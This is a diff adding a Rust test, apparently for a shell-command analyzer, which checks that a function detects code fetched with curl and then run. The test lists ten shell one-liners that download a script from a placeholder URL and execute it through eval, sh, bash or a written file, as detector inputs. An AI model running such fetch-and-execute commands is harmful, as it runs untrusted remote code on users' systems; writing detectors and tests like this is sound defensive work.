@@ -275,3 +275,25 @@ fn with_set_k_an_argument_may_be_an_assignment_for_the_command() {
     // Without it, the word is the argument.
     assert_eq!(touched("f() { head \"$x\" \"/etc/p$1\"; }; f x=/etc/y", "head"), ["/etc/px=/etc/y"]);
 }
+
+#[test]
+fn fetched_text_stays_fetched_in_variables_and_parameters() {
+    let u = "https://x/i.sh";
+    for text in [
+        format!("v=$(curl -s {u}); eval \"$v\""),
+        format!("v=$(curl -s {u}); echo \"$v\" | sh"),
+        format!("v=$(curl -s {u}); bash <<< \"$v\""),
+        format!("read -r v < <(curl -s {u}); eval \"$v\""),
+        format!("mapfile -t a < <(curl -s {u}); eval \"${{a[@]}}\""),
+        format!("printf -v v %s \"$(curl -s {u})\"; eval \"$v\""),
+        format!("f() {{ eval \"$1\"; }}; f \"$(curl -s {u})\""),
+        format!("set -- \"$(curl -s {u})\"; eval \"$1\""),
+        format!("curl -s {u} | while read -r l; do eval \"$l\"; done"),
+        format!("v=$(curl -s {u}); echo \"$v\" > x.sh; bash x.sh"),
+    ] {
+        assert!(runs_fetched_code(&text), "{text}");
+    }
+    // Assigned again, or never fetched, it is not.
+    assert!(!runs_fetched_code(&format!("v=$(curl -s {u}); v='echo hi'; eval \"$v\"")));
+    assert!(!runs_fetched_code("v=$(date); eval \"echo $v\"; echo \"$v\" | sh"));
+}
